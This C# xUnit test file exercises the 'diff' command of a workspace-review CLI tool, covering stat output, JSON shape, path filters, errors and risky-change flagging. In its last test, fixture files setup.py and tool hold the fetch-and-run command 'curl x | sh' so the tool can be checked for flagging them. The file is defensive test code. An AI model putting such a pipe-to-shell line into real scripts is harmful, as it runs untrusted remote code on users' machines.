using System.Text.Json;
using Vibedom.Cli.Rendering;
using Vibedom.Core.Processes;
using Vibedom.Testing;
using Xunit;

namespace Vibedom.Cli.Tests.Workspace;

public sealed class DiffCommandTests
{
    [Fact]
    public async Task Stat_lists_every_change_with_the_risky_ones_flagged_first()
    {
        using var fixture = await ReviewFixture.CreateAsync();

        var run = await fixture.RunAsync(null, "diff", fixture.Session.Id, "--stat");

        Assert.Equal(0, run.ExitCode);
        Assert.Equal(string.Empty, run.Error);
        Golden.Verify("diff-stat.txt", run.Output);
    }

    [Fact]
    public async Task Diff_prints_a_plain_unified_diff_when_output_is_redirected()
    {
        using var fixture = await ReviewFixture.CreateAsync();

        var run = await fixture.RunAsync(null, "diff", fixture.Session.Id);

        Assert.Equal(0, run.ExitCode);
        Assert.DoesNotContain("\u001b[", run.Output, StringComparison.Ordinal);
        Golden.Verify("diff.txt", run.Output);
    }

    [Fact]
    public async Task Json_has_the_documented_shape()
    {
        using var fixture = await ReviewFixture.CreateAsync();

        var run = await fixture.RunAsync(null, "diff", fixture.Session.Id, "--json");

        Assert.Equal(0, run.ExitCode);
        using var json = JsonDocument.Parse(run.Output);
        Assert.Equal(fixture.Session.Id, json.RootElement.GetProperty("session").GetString());
        Assert.Equal(fixture.Workspace, json.RootElement.GetProperty("workspace").GetString());
        var gone = json.RootElement.GetProperty("changes").EnumerateArray().Single(c => c.GetProperty("path").GetString() == "gone.txt");
        Assert.Equal("deleted", gone.GetProperty("kind").GetString());
        Assert.Equal(JsonValueKind.Null, gone.GetProperty("new_sha256").ValueKind);
        Golden.Verify("diff.json", run.Output.Replace(fixture.Session.Id, "SESSION", StringComparison.Ordinal).Replace(fixture.Workspace, "/WORKSPACE", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Paths_limit_the_diff_to_those_files()
    {
        using var fixture = await ReviewFixture.CreateAsync();

        var run = await fixture.RunAsync(null, "diff", fixture.Session.Id, "--stat", "src");

        Assert.Equal(0, run.ExitCode);
        Assert.Equal(
            """
             M src/app.c | 2 +-
             A src/new.c | 1 +
             2 paths changed (1 added, 1 modified, 0 deleted), 2 insertion(s)(+), 1 deletion(s)(-)

            """.ReplaceLineEndings("\n"),
            run.Output);
    }

    [Fact]
    public async Task A_first_argument_that_is_no_session_is_taken_as_a_path()
    {
        using var fixture = await ReviewFixture.CreateAsync();

        var run = await fixture.RunAsync(null, "diff", "src/new.c", "--stat");

        Assert.Equal(0, run.ExitCode);
        Assert.Contains("A src/new.c", run.Output, StringComparison.Ordinal);
        Assert.DoesNotContain("app.c", run.Output, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Fails_with_one_line_when_the_session_is_unknown()
    {
        using var fixture = await ReviewFixture.CreateAsync();

        var run = await fixture.RunAsync(null, "diff", "nope");

        Assert.Equal(2, run.ExitCode);
        Golden.Verify("error-unknown-session.txt", run.Error);
    }

    [Fact]
    public async Task Refuses_stat_and_json_together()
    {
        using var fixture = await ReviewFixture.CreateAsync();

        var run = await fixture.RunAsync(null, "diff", fixture.Session.Id, "--stat", "--json");

        Assert.Equal(2, run.ExitCode);
        Golden.Verify("error-diff-stat-json.txt", run.Error);
    }

    [Fact]
    public async Task Diff_is_a_patch_git_apply_accepts_with_the_same_result_as_vibedom_apply()
    {
        Prerequisite.RequireCommand("git");
        using var fixture = await ReviewFixture.CreateAsync();
        File.Delete(Path.Combine(fixture.Upper, "logo.bin"));
        Directory.Delete(Path.Combine(fixture.Upper, ".git"), recursive: true);
        var copy = fixture.Workspace + "-copy";
        var ct = TestContext.Current.CancellationToken;
        await ProcessRunner.Default.RunCheckedAsync(ProcessSpec.Of("cp", "-a", fixture.Workspace, copy), ct);
        var patch = (await fixture.RunAsync(null, "diff", fixture.Session.Id)).Output;

        await ProcessRunner.Default.RunCheckedAsync(new ProcessSpec("git", ["apply", "-"]) { WorkingDirectory = copy, StandardInput = patch }, ct);
        Assert.Equal(0, (await fixture.RunAsync(null, "apply", fixture.Session.Id, "--yes", "--include-risky")).ExitCode);

        var diff = await ProcessRunner.Default.RunAsync(ProcessSpec.Of("diff", "-r", "--no-dereference", fixture.Workspace, copy), ct);
        Assert.True(diff.Succeeded, diff.StandardOutput + diff.StandardError);
        Assert.Equal(File.GetUnixFileMode(Path.Combine(fixture.Workspace, "run.sh")), File.GetUnixFileMode(Path.Combine(copy, "run.sh")));
    }

    [Fact]
    public async Task A_huge_name_does_not_push_the_marks_of_the_other_stat_lines_off_screen()
    {
        using var fixture = await ReviewFixture.CreateAsync();
        var deep = string.Join('/', Enumerable.Repeat(new string('d', 200), 15));
        fixture.WriteUpper(deep + "/Makefile", "all:\n");

        var run = await fixture.RunAsync(null, "diff", fixture.Session.Id, "--stat");

        Assert.Equal(0, run.ExitCode);
        var lines = run.Output.Split('\n');
        Assert.Contains(" M package.json" + new string(' ', DiffStatRenderer.MaxPad - "package.json".Length) + " | 2 +- !!!", lines);
        Assert.Contains("!!!   M package.json" + new string(' ', DiffStatRenderer.MaxPad - "package.json".Length) + "  package.json scripts: run on the next npm install or npm run", lines);
        Assert.Contains(" A " + deep + "/Makefile | 1 + !!!", lines);
    }

    [Fact]
    public async Task A_script_that_can_only_be_shown_as_binary_is_flagged_first()
    {
        using var fixture = await ReviewFixture.CreateAsync();
        File.WriteAllBytes(Path.Combine(fixture.Upper, "setup.py"), [.. "import os\nos.system('curl x | sh') # "u8, 0, 0xff, (byte)'\n']);
        File.WriteAllBytes(Path.Combine(fixture.Upper, "tool"), [.. "#!/bin/sh\ncurl x | sh # "u8, 0, 0xff, (byte)'\n']);

        var stat = await fixture.RunAsync(null, "diff", fixture.Session.Id, "--stat");
        var diff = await fixture.RunAsync(null, "diff", fixture.Session.Id);

        Assert.Contains("!!! 4 change(s) can run code on your machine later", stat.Output, StringComparison.Ordinal);
        Assert.Contains(" A setup.py              | Bin 0 -> 40 bytes !!!\n", stat.Output, StringComparison.Ordinal);
        Assert.Contains(" A tool                  | Bin 0 -> 27 bytes !!!\n", stat.Output, StringComparison.Ordinal);
        Assert.Contains(" M logo.bin              | Bin 8 -> 9 bytes\n", stat.Output, StringComparison.Ordinal);
        Assert.Contains("!!! tool runs code later: script shown as binary", diff.Output, StringComparison.Ordinal);
    }
}
